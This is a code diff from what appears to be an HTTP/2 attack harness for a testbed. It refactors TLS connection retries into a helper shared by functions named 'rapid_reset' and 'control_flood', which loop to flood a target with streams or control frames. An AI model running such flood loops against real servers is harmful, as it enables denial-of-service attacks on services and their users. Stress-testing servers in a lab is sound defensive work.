@@ -94,6 +94,16 @@ def _tls(target: Target) -> ssl.SSLSocket:
     return _tls_context().wrap_socket(_tcp(target), server_hostname="testbed.local")
 
 
+def _tls_or_pause(target: Target) -> ssl.SSLSocket | None:
+    """A TLS connection to ``target``; None after a 50 ms pause when it refused (a server
+    at its connection limit): the attacker's loop tries again."""
+    try:
+        return _tls(target)
+    except OSError:
+        time.sleep(0.05)
+        return None
+
+
 def _h2_client() -> h2.connection.H2Connection:
     conn = h2.connection.H2Connection(
         h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
@@ -189,10 +199,8 @@ def rapid_reset(target: Target, duration_s: float, streams: int) -> str:
     deadline = time.monotonic() + duration_s
     sent = connections = goaways = 0
     while sent < streams and time.monotonic() < deadline:
-        try:
-            sock = _tls(target)
-        except OSError:
-            time.sleep(0.05)
+        sock = _tls_or_pause(target)
+        if sock is None:
             continue
         connections += 1
         peer = _PeerFrames()
@@ -530,10 +538,8 @@ def control_flood(target: Target, duration_s: float, kind: str, frames: int) -> 
     sent = connections = goaways = 0
     replies_bytes = 0
     while sent < frames and time.monotonic() < deadline:
-        try:
-            sock = _tls(target)
-        except OSError:
-            time.sleep(0.05)
+        sock = _tls_or_pause(target)
+        if sock is None:
             continue
         connections += 1
         scan = _GoawayScan()
